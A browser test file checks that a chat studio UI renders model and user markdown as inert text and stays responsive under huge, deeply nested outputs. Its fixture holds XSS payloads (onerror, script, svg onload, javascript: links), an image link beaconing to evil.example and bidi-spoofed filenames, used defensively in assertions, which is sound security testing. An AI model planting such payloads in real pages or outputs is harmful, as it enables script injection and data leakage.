import type { Page } from 'playwright-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { agent } from '../../../src/runnables/agent/agent.ts'
import { openBrowser, type TestBrowser } from '../../support/browser/browser.ts'
import { nothingWrong, visit } from '../../support/browser/visit.ts'
import { type RunningTestServer, startServer } from '../../support/server.ts'

const markup = [
  '<img src=x onerror="alert(1)"> <script>alert(2)</script> </script><svg/onload=alert(3)>',
  '![secret](https://evil.example/?q=all) [click](javascript:alert(4)) [data](data:text/html,x) <https://evil.example/a>',
  '[1]: https://evil.example/ref "t"\n\n[1] and [out](https://example.org "<b>")',
  '```js"onclick=alert(5)\n</code></pre><script>alert(6)</script>\n```',
  'NUL \u0000 bidi \u202egnp.exe\u202c \u2066x\u2069 \u200b end',
  '| <b>a</b> |\n|---|\n| <script>alert(7)</script> |',
].join('\n\n')
const nested = Array.from({ length: 5000 }, (_, depth) => `${' '.repeat(Math.min(depth * 2, 400))}- ${depth}`).join(
  '\n',
)

const texts: Record<string, string> = {
  markup,
  nested: `${'- '.repeat(5000)}x\n\n${nested}\n\n${'> '.repeat(5000)}y\n\n${'['.repeat(5000)}`,
  line: 'word '.repeat(200_000),
  unbroken: 'x'.repeat(1_000_000),
  code: `\`\`\`ts\n${'const a = 1\n'.repeat(80_000)}\`\`\``,
  stars: `${'*_'.repeat(50_000)}\n\n${'`'.repeat(20_000)}\n\n${'![a]('.repeat(20_000)}`,
}

let chromium: TestBrowser
let server: RunningTestServer
beforeAll(async () => {
  chromium = await openBrowser()
  server = await startServer(
    {},
    {
      says: agent({ run: ({ text }) => texts[text] ?? text }),
      gives: agent({
        // biome-ignore lint/suspicious/noExplicitAny: parts of every kind
        async *run(): AsyncGenerator<any> {
          yield { type: 'data', data: { long: 'y '.repeat(4_000_000), [markup]: [markup] } }
        },
      }),
    },
  )
})
afterAll(async () => {
  await Promise.all([chromium?.close(), server?.close()])
})

/** How long the page takes to answer a key, the longest of ten. */
async function answersIn(page: Page): Promise<number> {
  const field = page.getByRole('textbox', { name: /^Message/ })
  await field.focus()
  await page.evaluate(`window.longest = 0; document.querySelector('textarea').addEventListener('input', (event) => {
    const began = event.timeStamp
    requestAnimationFrame(() => { window.longest = Math.max(window.longest, performance.now() - began) })
  })`)
  for (const letter of 'abcdefghij') {
    await page.keyboard.press(letter)
    await page.evaluate('new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))')
  }
  return (await page.evaluate('window.longest')) as number
}

async function openTurn(agentId: string, input: string) {
  const { json } = await server.call('POST', `/api/v1/agents/${agentId}/run`, { input })
  const visited = await visit(chromium, server.url, `/studio/s/${json.session_id}`)
  await visited.page.getByRole('article').waitFor()
  await visited.page.locator('.answered .markdown, .answered .json').first().waitFor()
  return visited
}

test('markup of a model or a person is text: nothing runs, nothing is loaded, no link acts', async () => {
  const { page, ...visited } = await openTurn('says', 'markup')
  await page.getByText('onerror').waitFor()
  expect(await page.locator('.turn :is(img, script, svg:not(.icon), iframe, b, style)').count()).toBe(0)
  const attributes = await page.evaluate(
    "[...document.querySelectorAll('.turn *')].flatMap((element) => element.getAttributeNames()).filter((name) => name.startsWith('on'))",
  )
  expect(attributes).toEqual([])
  const links = await page.evaluate("[...document.querySelectorAll('.turn a')].map(({ href, rel }) => [href, rel])")
  expect(links).toEqual([
    ['https://evil.example/a', 'noopener noreferrer'],
    ['https://evil.example/ref', 'noopener noreferrer'],
    ['https://example.org/', 'noopener noreferrer'],
  ])
  expect(await visited.end()).toEqual(nothingWrong)
})

test.each(['nested', 'line', 'unbroken', 'code', 'stars'])(
  'the page answers keys beside a text of kind %s',
  async (kind) => {
    const { page, ...visited } = await openTurn('says', kind)
    expect(await answersIn(page)).toBeLessThan(400)
    expect(await page.evaluate('document.querySelectorAll("*").length')).toBeLessThan(12_000)
    expect(await page.evaluate('document.documentElement.scrollWidth <= innerWidth')).toBe(true)
    expect(await visited.end()).toEqual(nothingWrong)
  },
)

test('eight megabytes in one value are shown piece by piece', async () => {
  const { page, ...visited } = await openTurn('gives', 'go')
  const more = page.getByRole('button', { name: 'show 100.0 KB more of 7.6 MB' })
  await more.waitFor()
  await more.click()
  expect(await answersIn(page)).toBeLessThan(400)
  const shown = (await page.evaluate("document.querySelector('.turn .string').firstChild.length")) as number
  expect(shown).toBe(100 * 1024)
  expect(await visited.end()).toEqual(nothingWrong)
})
